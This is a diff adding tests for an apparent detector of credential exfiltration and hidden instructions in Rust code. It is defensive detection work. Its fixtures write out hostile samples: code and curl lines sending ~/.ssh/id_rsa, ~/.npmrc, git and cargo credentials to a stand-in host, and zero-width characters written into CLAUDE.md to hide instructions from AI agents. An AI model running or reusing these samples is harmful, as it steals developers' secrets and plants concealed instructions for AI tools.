@@ -58,3 +58,72 @@ test("an entry to be started with the session is the library's own where it has 
   expect([...(await claimsOf(entry('""')))]).toContain('autostart-write');
   expect(await claimsOf(entry('""'))).not.toContain('persistence-write');
 });
+
+const through = (told: string, spoken: string) => `
+  use std::io::Write;
+  pub fn go() {
+    let (told, heard) = std::sync::mpsc::channel();
+    let (spoken, listened) = std::sync::mpsc::channel();
+    std::thread::spawn(move || { told.send(std::fs::read("/home/me/.ssh/id_rsa").unwrap()); spoken.send(1) });
+    let mut out = std::net::TcpStream::connect("192.0.2.1:1").unwrap();
+    while let Ok(bytes) = ${told}.recv() { println!("{}", bytes.len()); }
+    out.write_all(${spoken}.recv().unwrap());
+  }`;
+
+test('what comes out of a channel is what was sent into that one', async () => {
+  expect(await claimsOf(through('listened', 'heard'))).toContain('read-then-send');
+  expect(await claimsOf(through('heard', 'listened'))).not.toContain('read-then-send');
+});
+
+const filling = (sent: string) => `
+  use std::io::Write;
+  fn gather(path: &str, into: &mut Vec<u8>) { into.extend(std::fs::read(path).unwrap()); }
+  pub fn go() {
+    let (mut keys, mut terms) = (Vec::new(), Vec::new());
+    gather("/home/me/.ssh/id_rsa", &mut keys);
+    gather("/usr/share/terms.txt", &mut terms);
+    std::net::TcpStream::connect("192.0.2.1:1").unwrap().write_all(&${sent});
+  }`;
+
+test('a buffer holds what a function filled it with, and no other', async () => {
+  expect(await claimsOf(filling('keys'))).toContain('read-then-send');
+  expect(await claimsOf(filling('terms'))).not.toContain('read-then-send');
+});
+
+const running = (line: string) => `pub fn go() { std::process::Command::new("sh").arg("-c").arg("${line}").spawn(); }`;
+
+test('a line of a shell that pours credentials out is told from one that has a tool use them', async () => {
+  const poured = [
+    'cat ~/.npmrc | curl -d @- http://192.0.2.1/',
+    'curl -d @$HOME/.git-credentials http://192.0.2.1/',
+    'curl -d @- http://192.0.2.1/ < ~/.cargo/credentials.toml',
+  ];
+  for (const line of poured) expect(await claimsOf(running(line)), line).toContain('read-then-send');
+  const used = [
+    'curl --netrc-file ~/.netrc -d @body.json https://service.example/',
+    'cat ~/.npmrc | grep registry; curl -d @body.json https://service.example/',
+    'kubectl --kubeconfig ~/.kube/config get pods | curl -d @- https://service.example/',
+  ];
+  for (const line of used) expect(await claimsOf(running(line)), line).not.toContain('read-then-send');
+});
+
+const publishing = (given: string) => `
+  pub fn go() {
+    let text = std::fs::read_to_string(home::cargo_home().unwrap().join("credentials.toml")).unwrap();
+    let table: toml::Value = text.parse().unwrap();
+    let token = table["registry"]["token"].as_str().unwrap();
+    ureq::put("https://registry.example/new").${given};
+  }`;
+
+test("cargo's own token is at home in a header", async () => {
+  expect(await claimsOf(publishing('send_string(token)'))).toContain('read-then-send');
+  expect(await claimsOf(publishing('set("Authorization", token)'))).not.toContain('read-then-send');
+});
+
+const writing = (content: string) => `pub fn go() { std::fs::write("CLAUDE.md", ${content}); }`;
+
+test('instructions are hidden where nobody sees them, not where they are in another script', async () => {
+  expect(await claimsOf(writing('"a\\u{200b}\\u{200c}\\u{200b}"'))).toContain('hidden-instructions');
+  for (const content of ['"می\\u{200c}خواهم"', '"\\u{feff}# Notes"'])
+    expect(await claimsOf(writing(content))).not.toContain('hidden-instructions');
+});
